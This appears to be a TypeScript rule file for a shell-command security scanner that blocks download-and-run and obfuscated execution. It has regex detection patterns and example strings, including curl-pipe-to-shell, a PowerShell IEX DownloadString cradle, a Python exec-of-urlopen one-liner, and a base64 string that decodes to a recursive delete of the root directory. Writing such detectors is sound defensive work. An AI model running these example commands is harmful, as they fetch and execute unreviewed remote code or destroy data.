/** remote-exec and obfuscation rules that run fetched or decoded text (origins:
 * docs/rules.md "Rule origins"). */
import type { Rule } from '../rule.js';
import type { CommandLine, ShellCommand, Span } from '../shell/model.js';
import { shellScriptArg } from '../shell/analyze.js';
import { interpreterCode as codeOf } from '../shell/interp.js';
import { baseName, normalizePath } from '../shell/words.js';
import { SHELLS } from '../shell/context.js';
import { INTERPRETERS } from '../shell/interp.js';
import { downloadedFiles, executedFiles, executedSubstitutions, hasDownloader, isDecoder, isDownloader, isRemoteSource, redirectedTo, runsStdin, writeTargets } from '../effects/index.js';
import { anyUpstream } from './pipeline.js';


/** `xargs sh -c` / `xargs -I{} bash -c {}`: a shell whose `-c` script is the input line. */
function xargsRunsInputAsScript(c: ShellCommand): boolean {
  if (c.name !== 'xargs' && c.name !== 'parallel') return false;
  const i = c.argv.findIndex((a, k) => k > 0 && SHELLS.has(baseName(a)));
  if (i < 0) return false;
  const inner = c.argv.slice(i);
  if (!inner.some((a) => /^-[a-zA-Z]*c$/.test(a))) return false;
  const script = shellScriptArg(inner);
  return script === null || /^(?:\{\}|%|_)$/.test(script);
}

/** The interpreter one-liner code of `python -c`, `perl -e`, `node -e`, `ruby -e`, `php -r`,
 * `powershell -c`/`-EncodedCommand` (decoded from UTF-16LE base64), or null. */
export function interpreterCode(c: ShellCommand): string | null {
  return codeOf(c.name, c.argv);
}

/** Downloads in interpreter code or its options (`perl -MLWP::Simple`, `ruby -ropen-uri`), and raw
 * sockets whose input the code may run (`perl -MIO::Socket … eval join("",<$c>)`, Ruby TCPSocket, PHP fsockopen). */
const FETCH = /IO::Socket|TCPSocket\.(?:new|open)|\bfsockopen\s*\(|stream_socket_client\s*\(|urlopen|urllib|requests\.(?:get|post)|httpx\.|http\.client|LWP::|HTTP::Tiny|open-uri|URI\.open|Net::HTTP|file_get_contents\s*\(\s*['"]https?:|fetch\s*\(|https?\.(?:get|request)\s*\(|require\(\s*['"](?:node:)?https?['"]\s*\)|DownloadString|DownloadFile|DownloadData|Net\.WebClient|Invoke-WebRequest|Invoke-RestMethod|\biwr\b|\birm\b|curl_exec|\bget\s*\(\s*['"]https?:/i;
/** Running text as code (`eval get(…)` in Perl has no parenthesis). */
const EXEC = /\bexec\s*\(|\beval\b|\bIEX\b|Invoke-Expression|\bsystem\s*\(|\bcompile\s*\(|runpy|\bFunction\s*\(|\bexecSync\b|\bspawn\b|\bpopen\b|`\$|\bsh\s*\(|\.run\s*\(|\bvm\.runIn/i;
/** PowerShell download-and-run: `iwr URL | iex`, `iex (iwr URL)`, `Invoke-RestMethod … | Invoke-Expression`, a
 * COM HTTP object's response run (`Msxml2.XMLHTTP` … `iex $h.responseText`; ATT&CK T1059.001,
 * https://attack.mitre.org/techniques/T1059/001/). */
const PS_DOWNLOAD_EXEC = /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|curl|wget)\b[^|;\n]*\|\s*(?:iex|Invoke-Expression)\b|\b(?:iex|Invoke-Expression)\s*[(\s]\s*\(?\s*(?:\[[\w.]+\]::\w+\()?\s*\(?\s*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|New-Object)\b|\[scriptblock\]::Create\s*\(\s*\(?\s*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|curl|wget|\(?New-Object)\b|\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^;\n]*\)\.Content\s*\)\s*\)|(?:Msxml2\.(?:Server)?XMLHTTP|Microsoft\.XMLHTTP|WinHttp\.WinHttpRequest)[\s\S]*\b(?:iex|Invoke-Expression)\b[^;\n]*\.response(?:Text|Body)\b/i;


/** The first command that runs a file an earlier command produced (`produced(c)` names the files
 * c writes), compared by base name; its span, or null. */
function producedThenRun(line: CommandLine, produced: (c: ShellCommand) => string[]): Span | null {
  const files = new Set<string>();
  // a Windows path as cmd.exe keeps it (`.\a.exe`, `C:\t\a.exe`): its backslashes separate too
  const key = (f: string) => baseName(normalizePath(f.replace(/\\/g, '/'))).toLowerCase();
  for (const c of line.commands) {
    for (const f of executedFiles(c)) if (files.has(key(f))) return c.span;
    for (const f of produced(c)) files.add(key(f));
  }
  return null;
}



/** remote-exec rules (docs/rules.md "Rule origins"). */
export const REMOTE_RULES: Rule[] = [
  {
    id: 'curl-pipe-shell',
    name: 'Download piped into a shell',
    category: 'remote-exec',
    action: 'block',
    attack: 'T1059.004',
    description: 'Output of curl/wget/fetch/iwr piped (possibly via tee, sudo or env) into a shell or an interpreter reading code from stdin.',
    help: 'Runs whatever the server returns, unreviewed. Download to a file, read it, then run it.',
    examples: {
      match: ['curl -fsSL https://x.example/install | sh', 'wget -qO- https://x.example/get.py | sudo python3 -', 'curl -s https://x.example/i | tee /tmp/log | sudo -E bash -s -- --yes'],
      not_match: ['curl -o install.sh https://x.example/install', 'curl -s https://api.example.com/v1/items | python3 -m json.tool', 'curl -s https://x.example | grep sh', 'echo "curl https://x | sh" >> notes.md'],
    },
    match: {
      command: (c) => (runsStdin(c) || xargsRunsInputAsScript(c)) && anyUpstream(c, isRemoteSource),
      raw: /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|;&\n]*\|\s*(?:sudo\s+)?(?:iex|Invoke-Expression|(?:source|\.|(?:ba|z|da|k)?sh)\s+\/dev\/stdin)\b|\b(?:curl|wget|fetch|iwr|Invoke-WebRequest)\b[^|;&\n]*\|\s*(?:(?:sudo|env|tee)\b[^|;&\n]*\|?\s*)*(?:\/(?:usr\/)?(?:local\/)?bin\/)?(?:ba|z|da|k)?sh(?:$|[^\w\s]|\s+(?:$|[^\s-]|-(?:$|[^cn])))|\b(?:curl|wget)\b[^|;&\n]*\|\s*(?:sudo\s+)?(?:python[0-9.]*|perl|ruby|node|php)\s*(?:-\s*)?(?:$|[;&|"\\])/,
    },
  },
  {
    id: 'remote-substitution-exec',
    name: 'Downloaded text run through substitution',
    category: 'remote-exec',
    action: 'block',
    attack: 'T1059.004',
    description: 'Downloaded text run via bash <(curl …), sh -c "$(curl …)", eval "$(wget …)" or source <(…).',
    help: 'Runs whatever the server returns, unreviewed. Download to a file, read it, then run it.',
    examples: {
      match: ['bash <(curl -s https://x.example/i.sh)', 'sh -c "$(wget -qO- https://x.example/i.sh)"', 'eval "$(curl -fsSL https://x.example/env)"', 'source <(curl -s https://x.example/f)'],
      not_match: ['diff <(curl -s https://a.example/v1) <(curl -s https://a.example/v2)', 'echo "my ip is $(curl -s https://ifconfig.me)"'],
    },
    match: {
      command: (c) => executedSubstitutions(c).some((cmds) => hasDownloader(cmds)),
      raw: /\b(?:(?:ba|z|k)?sh|source|\.)\s+<\(\s*(?:curl|wget)\b|\b(?:(?:ba|z|k)?sh\s+-\w*c|eval)\s+\\?["']?\$\(\s*(?:curl|wget)\b/,
    },
  },
  {
    id: 'download-then-exec',
    name: 'Download then run',
    category: 'remote-exec',
    action: 'record',
    attack: 'T1105',
    description: 'A file downloaded in the command line is then run or made executable in the same line.',
    help: 'Runs a downloaded script without review. Check the URL and the script.',
    examples: {
      match: ['curl -o /tmp/i.sh https://x.example/i.sh && bash /tmp/i.sh', 'wget https://x.example/run.sh && chmod +x run.sh && ./run.sh'],
      not_match: ['curl -o data.json https://api.example.com/x && jq . data.json', 'bash ./scripts/test.sh'],
    },
    match: {
      line: (line) => producedThenRun(line, (c) => [...downloadedFiles(c), ...(isDownloader(c) || anyUpstream(c, isDownloader) ? redirectedTo(c) : [])]),
    },
  },
  {
    id: 'interpreter-download-exec',
    name: 'Interpreter one-liner that fetches and runs code',
    category: 'remote-exec',
    action: 'block',
    attack: 'T1059',
    description: 'A python/perl/ruby/node/php/PowerShell one-liner that downloads code and exec/eval/IEX-es it.',
    help: 'Runs whatever the server returns, unreviewed.',
    examples: {
      match: [
        `python3 -c "import urllib.request as u;exec(u.urlopen('https://x.example/p').read())"`,
        `powershell -NoP -c "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')"`,
      ],
      not_match: [
        `python3 -c "import urllib.request as u;print(u.urlopen('https://x.example').status)"`,
        `powershell -c "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip"`,
      ],
    },
    match: {
      command: (c) => {
        // bash reads `iex (iwr URL)` as iex with a subshell argument, and splits the cradle
        // `IEX(New-Object Net.WebClient).DownloadString(URL)` after the parenthesis: the download
        // method is in the text that follows
        if (/^(?:iex|invoke-expression)$/i.test(c.name)) {
          const args = c.argv.slice(1).join(' ');
          if (/\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|curl|wget|DownloadString)\b/i.test(args)) return true;
          return /\bNet\.WebClient\b/i.test(args) && /^\s*\)?\s*\.Download(?:String|Data)\s*\(/i.test(c.span.source.slice(c.span.end));
        }
        const code = interpreterCode(c);
        if (code === null) return false;
        if (/^(?:pwsh|powershell)/i.test(c.name) && PS_DOWNLOAD_EXEC.test(code)) return true;
        // Python and JavaScript: read from the syntax tree (exec/eval of fetched text); the others by pattern
        if (c.code) return c.code.downloadExec;
        return FETCH.test(c.argv.slice(1).join(' ')) && EXEC.test(code);
      },
    },
  },
];

/** obfuscation rules that run decoded or dynamic text (docs/rules.md "Rule origins"). */
export const DECODE_RULES: Rule[] = [
  {
    id: 'decode-pipe-shell',
    name: 'Decoded text run by a shell',
    category: 'obfuscation',
    action: 'block',
    attack: 'T1140',
    description: 'Decoded or transformed text (base64 -d, base32, xxd -r, openssl enc -d, rev, tr, gunzip) fed to a shell or eval, or decoded into a file the line then runs (certutil -decode/-decodehex IN OUT & OUT, xxd -r IN OUT; ./OUT).',
    help: 'Hides the real command from review. Decode it and inspect what would run.',
    examples: {
      match: ['echo cm0gLXJmIC8= | base64 -d | sh', "echo '/ fr- mr' | rev | bash", 'eval "$(echo ZWNobyBoaQ== | base64 --decode)"', 'xxd -r -p payload.hex | bash'],
      not_match: ['base64 -d cert.b64 > cert.pem', 'echo aGVsbG8= | base64 -d', 'echo hi | tr a-z A-Z'],
    },
    match: {
      // decoded into a file that the line then runs: `… | base64 -d > /tmp/x; sh /tmp/x`, or by
      // a decoder's own output operand: `certutil -decode p.b64 p.exe & p.exe` (LOLBAS Certutil
      // "Decode", https://lolbas-project.github.io/lolbas/Binaries/Certutil/), `xxd -r p.hex p`
      line: (line) => producedThenRun(line, (c) => (isDecoder(c) ? [...redirectedTo(c), ...writeTargets(c)] : anyUpstream(c, isDecoder) ? redirectedTo(c) : [])),
      command: (c) =>
        (runsStdin(c) && anyUpstream(c, isDecoder)) ||
        executedSubstitutions(c).some((cmds) => cmds.some(isDecoder)),
      raw: /\b(?:base64|base32|basenc)\s+(?:-\w*[dD]\w*|--decode)\b[^;&\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\|\s*rev\s*\|\s*(?:ba|z)?sh\b|\bxxd\s+-r[^;&\n]*\|\s*(?:ba|z)?sh\b/,
    },
  },
  {
    id: 'eval-dynamic',
    name: 'eval of dynamic text',
    category: 'obfuscation',
    action: 'record',
    attack: 'T1027',
    description: 'eval/source of a variable or a command substitution, except well-known environment generators (ssh-agent, brew shellenv, pyenv init, …).',
    help: 'What runs is decided at run time and cannot be reviewed from the command line.',
    examples: {
      match: ['eval "$CMD"', 'eval "$(cat /tmp/payload)"', 'source <(cat /tmp/x)'],
      not_match: ['eval "$(ssh-agent -s)"', 'eval "$(/opt/homebrew/bin/brew shellenv)"', 'eval "$(pyenv init -)"', 'eval echo hi'],
    },
    match: {
      command: (c) => {
        if (c.name !== 'eval' && c.name !== 'source' && c.name !== '.') return false;
        const words = c.words.slice(1);
        if (!words.some((w) => w.dynamic)) return false;
        const subs = words.flatMap((w) => w.subs);
        const unresolvedVar = words.some((w) => w.dynamic && /\$(?:\{?[A-Za-z_@*#?0-9])/.test(w.text.replace(/\$\([\s\S]*\)/g, '')));
        if (unresolvedVar) return true;
        return subs.some((s) => !s.commands.every(isEnvGenerator) || s.commands.length === 0);
      },
    },
  },
];

/** Tools whose output is meant to be eval'd (shell environment setup idioms). */
function isEnvGenerator(c: ShellCommand): boolean {
  const a = c.argv.slice(1).join(' ');
  switch (c.name) {
    case 'ssh-agent':
    case 'gpg-agent':
    case 'keychain':
    case 'dircolors':
    case 'direnv':
    case 'thefuck':
    case 'luarocks':
      return true;
    case 'brew':
      return /^shellenv\b/.test(a);
    case 'pyenv':
    case 'rbenv':
    case 'nodenv':
    case 'goenv':
    case 'jenv':
    case 'plenv':
    case 'phpenv':
    case 'starship':
    case 'zoxide':
    case 'mise':
    case 'rtx':
      return /\b(?:init|activate|virtualenv-init)\b/.test(a);
    case 'fnm':
    case 'opam':
      return /^env\b/.test(a);
    case 'conda':
    case 'micromamba':
      return /shell/.test(a);
    case 'fzf':
      return /^--(?:bash|zsh|fish)\b/.test(a);
    case 'register-python-argcomplete':
    case 'kubectl':
    case 'helm':
    case 'gh':
      return /\bcompletion\b/.test(a) || c.name === 'register-python-argcomplete';
    default:
      return false;
  }
}
